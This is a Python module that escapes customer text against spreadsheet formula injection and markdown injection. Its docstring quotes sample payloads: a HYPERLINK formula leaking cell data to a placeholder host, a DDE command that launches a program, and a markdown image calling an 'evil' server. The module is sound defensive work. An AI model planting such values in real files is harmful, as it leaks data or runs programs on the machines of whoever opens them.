"""Text from outside (customer names, invoice numbers, notes, problems) made safe for the
files and artifacts the project writes.

- Spreadsheets (every XLSX and CSV): a cell whose text starts with `=`, `+`, `-`, `@`, a tab
  or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula, so a
  customer named `=HYPERLINK("http://x/leak?"&A1,"x")` could leak the sheet or, through
  DDE (`=cmd|' /C calc'!A0`), run a program. OWASP's rule: such text is written with a
  leading `'`, which makes it plain text. Only text is changed: numbers (negative ones too),
  dates and booleans stay what they are, so the sheet can still be summed and filtered.
- Markdown (summary.md, Prefect markdown artifacts): text is escaped so a name cannot add
  an image (a request to another server when the page is viewed), a link, HTML or break
  out of its table cell.

    >>> safe_cell("=1+2"), safe_cell(-3.5), safe_cell("ACME")
    ("'=1+2", -3.5, 'ACME')
    >>> print(markdown_text("![x](http://evil/p.png) | <b>"))
    !\\[x\\](http://evil/p.png) \\| \\<b\\>
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO, Any

import pandas as pd

#: OWASP's list of characters that start a formula in a spreadsheet cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_MARKDOWN_SPECIAL = re.compile(r"([\\`*\[\]<>|])")


def safe_cell(value: Any) -> Any:
    """`value` with a leading `'` if it is text a spreadsheet would read as a formula;
    anything that is not text is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell made safe (`safe_cell`); numeric, date and
    boolean columns are not touched. Column names are made safe too."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values):
            out[column] = values.map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def write_csv(
    frame: pd.DataFrame, target: str | Path | IO[str] | None = None, **kw: Any
) -> str | None:
    """`frame.to_csv(target, index=False, **kw)` with every text cell made safe; returns
    the text when `target` is None (as pandas does)."""
    kw.setdefault("index", False)
    return safe_frame(frame).to_csv(target, **kw)


def markdown_text(value: Any) -> str:
    """`value` as text that markdown shows literally, on one line: `\\`, backticks, `*`,
    brackets, `<`, `>` and `|` are escaped (no image, link, HTML, code or new table cell
    can come from it) and line breaks become spaces."""
    text = " ".join(str(value).splitlines())
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)
